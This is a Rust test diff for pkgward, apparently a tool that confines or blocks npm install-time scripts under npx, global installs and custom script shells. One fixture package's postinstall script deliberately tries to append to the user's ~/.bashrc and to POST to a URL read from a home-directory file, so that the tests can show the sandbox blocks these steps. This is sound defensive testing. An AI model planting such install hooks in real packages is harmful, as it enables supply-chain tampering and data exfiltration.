@@ -116,6 +116,37 @@ fn fixtures() {
                 .script("postinstall", "exec node term.js")
                 .file("term.js", term),
         );
+        // Run by `npx`: its postinstall builds what its bin needs (in its
+        // own directory) and tries more; its bin prints, and exits 3 when told.
+        let build = format!(
+            "{marker}\
+             fs.writeFileSync(path.join(__dirname, 'built.js'), 'module.exports = \"built\";\\n');\n\
+             let rc = 'written';\n\
+             try {{ fs.appendFileSync(path.join(require('os').homedir(), '.bashrc'), 'pwned\\n'); }} catch (e) {{ rc = 'blocked'; }}\n\
+             fs.writeFileSync(path.join(dir, 'npx-bashrc'), rc);\n\
+             {evil}",
+            marker = js_marker("npx-postinstall"),
+            evil = "try { const url = fs.readFileSync(path.join(require('os').homedir(), '.exfil-url'), 'utf8').trim();\n\
+                    require('http').request(url + '/npx', { method: 'POST' }, () => {}).on('error', () => {}).end('x'); } catch (e) {}\n",
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-scr-npx", "1.0.0")
+                .script("postinstall", "node build.js")
+                .file("build.js", build)
+                .field("bin", serde_json::json!({ "pw-scr-npx": "bin.js" }))
+                .executable(
+                    "bin.js",
+                    "#!/usr/bin/env node\n\
+                     if (process.argv[2] === 'exit3') process.exit(3);\n\
+                     console.log('pw-scr-npx says ' + require('./built.js') + ' ' + process.argv.slice(2).join(' '));\n",
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-scr-npx-app", "1.0.0")
+                .dep("pw-scr-evil", "^1.0.0")
+                .field("bin", serde_json::json!({ "pw-scr-npx-app": "app.js" }))
+                .executable("app.js", "#!/usr/bin/env node\nconsole.log('app ran');\n"),
+        );
         r.publish_npm(
             &NpmPackage::new("@pwscr/native", "1.2.0")
                 .script("postinstall", "node install.js")
@@ -844,4 +875,178 @@ fn a_signal_to_the_script_shell_reaches_the_approved_script() {
     let r = recs.iter().find(|r| r["package"] == "pw-scr-term").unwrap();
     assert_eq!(r["ran"], true);
     assert_eq!(r["exit_code"], 7, "{r}");
+}
+
+/// `npx` of an approved package: npm installs it into its npx cache and
+/// runs its postinstall through pkgward, confined to that directory; the
+/// bin then runs as the user's command, its output and exit code as they are.
+#[test]
+fn npx_builds_an_approved_package_confined_and_runs_its_bin() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "hello", "world"]);
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npx failed: {err}");
+    // The bin found what the postinstall built in its own directory.
+    assert_eq!(
+        text(&o.stdout),
+        "pw-scr-npx says built hello world\n",
+        "{err}"
+    );
+    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
+    // Confined: no write outside, nothing reached the listener.
+    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
+    no_effects_of_evil(&g);
+    assert!(!err.contains("install-time code not run"), "{err}");
+    let inv = g.last_invocation();
+    let recs = scripts(&g);
+    let r = recs
+        .iter()
+        .find(|r| r["package"] == "pw-scr-npx")
+        .unwrap_or_else(|| panic!("{recs:#?}"));
+    assert_eq!(r["invocation_id"], inv["invocation_id"]);
+    assert_eq!(r["decision"], "approved");
+    assert_eq!(r["ran"], true);
+    assert_eq!(r["exit_code"], 0);
+    assert_eq!(r["path"], "node_modules/pw-scr-npx");
+    // The command is not install-time code: one record, the postinstall.
+    assert_eq!(recs.len(), 1, "{recs:#?}");
+    // The bin's exit code is npx's.
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "exit3"]);
+    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
+}
+
+/// `npx` of an approved package that depends on an unapproved one: the
+/// dependency's postinstall does not run, and is listed and recorded.
+#[test]
+fn npx_does_not_run_an_unapproved_dependency_and_lists_it() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx-app\"]\n");
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx-app"]);
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npx failed: {err}");
+    assert_eq!(text(&o.stdout), "app ran\n", "{err}");
+    no_effects(&g);
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
+        "{err}"
+    );
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-dep@1.0.0"),
+        "{err}"
+    );
+    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
+    let inv = g.last_invocation();
+    let recs = scripts(&g);
+    let evil = recs
+        .iter()
+        .find(|r| r["package"] == "pw-scr-evil")
+        .unwrap_or_else(|| panic!("{recs:#?}"));
+    assert_eq!(evil["invocation_id"], inv["invocation_id"]);
+    assert_eq!(evil["decision"], "deny");
+    assert_eq!(evil["ran"], false);
+}
+
+/// `npm install -g`: the approved package's postinstall runs confined to
+/// its own directory under the global prefix; the unapproved one's does not
+/// run, and is listed and recorded.
+#[test]
+fn a_global_install_builds_the_approved_package_only() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
+    let prefix = g.sb.root().join("global");
+    let p = prefix.to_str().unwrap();
+    let o = g.npm(
+        &["install", "-g", "--prefix", p, "pw-scr-npx", "pw-scr-evil"],
+        &[],
+    );
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npm failed: {err}");
+    let pkg = prefix.join("lib/node_modules/pw-scr-npx");
+    assert!(pkg.join("built.js").is_file(), "{err}");
+    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
+    assert_eq!(g.sb.marker("npx-bashrc").as_deref(), Some("blocked"));
+    no_effects(&g);
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
+        "{err}"
+    );
+    assert!(!err.contains("approve npm:pw-scr-npx"), "{err}");
+    let bin = std::process::Command::new(prefix.join("bin/pw-scr-npx"))
+        .arg("hi")
+        .output()
+        .unwrap();
+    assert_eq!(text(&bin.stdout), "pw-scr-npx says built hi\n");
+    let inv = g.last_invocation();
+    let recs = scripts(&g);
+    let find = |n: &str| {
+        recs.iter()
+            .find(|r| r["package"] == n)
+            .unwrap_or_else(|| panic!("{recs:#?}"))
+    };
+    let (ok, evil) = (find("pw-scr-npx"), find("pw-scr-evil"));
+    assert_eq!(ok["invocation_id"], inv["invocation_id"]);
+    assert_eq!(ok["decision"], "approved");
+    assert_eq!(ok["ran"], true);
+    assert_eq!(ok["path"], "node_modules/pw-scr-npx");
+    assert_eq!(evil["decision"], "deny");
+    assert_eq!(evil["ran"], false);
+}
+
+/// The user's `script-shell` (`.npmrc` or flag) runs the command `npx`
+/// runs, as without pkgward, and never an install script; the command
+/// sees the user's setting, not pkgward's broker.
+#[test]
+fn npx_runs_its_command_with_the_users_script_shell_only() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-npx\"]\n");
+    let shell = g.sb.root().join("user-shell");
+    std::fs::write(
+        &shell,
+        format!(
+            "#!/bin/sh\nprintf '%s\\n' \"$2\" >> '{}/user-shell'\nexec /bin/sh \"$@\"\n",
+            g.sb.markers.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&shell, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    std::fs::write(
+        g.sb.work.join(".npmrc"),
+        format!("script-shell={}\n", shell.display()),
+    )
+    .unwrap();
+    let o = g.npm_tool("npx", &["--yes", "pw-scr-npx", "hello"]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), "pw-scr-npx says built hello\n");
+    assert_eq!(g.sb.marker("npx-postinstall").as_deref(), Some("ran\n"));
+    assert_eq!(
+        g.sb.marker("user-shell").as_deref(),
+        Some("'pw-scr-npx' hello\n")
+    );
+    // The command's environment: the user's shell, no broker.
+    let probe = "echo \"$npm_config_script_shell|${PKGWARD_NPM_SCRIPT_BROKER:-none}\"";
+    let o = g.npm(
+        &["exec", "--yes", "--package", "pw-scr-npx", "-c", probe],
+        &[],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), format!("{}|none\n", shell.display()));
+    // The flag, without the .npmrc.
+    std::fs::remove_file(g.sb.work.join(".npmrc")).unwrap();
+    let flag = format!("--script-shell={}", shell.display());
+    let o = g.npm_tool("npx", &[flag.as_str(), "--yes", "pw-scr-npx", "flag"]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), "pw-scr-npx says built flag\n");
+    let log = g.sb.marker("user-shell").unwrap_or_default();
+    assert!(log.ends_with("'pw-scr-npx' flag\n"), "{log}");
+    assert!(!log.contains("build.js"), "{log}");
+    let o = g.npm_tool(
+        "npx",
+        &[
+            flag.as_str(),
+            "--yes",
+            "--package",
+            "pw-scr-npx",
+            "-c",
+            probe,
+        ],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(text(&o.stdout), format!("{}|none\n", shell.display()));
 }
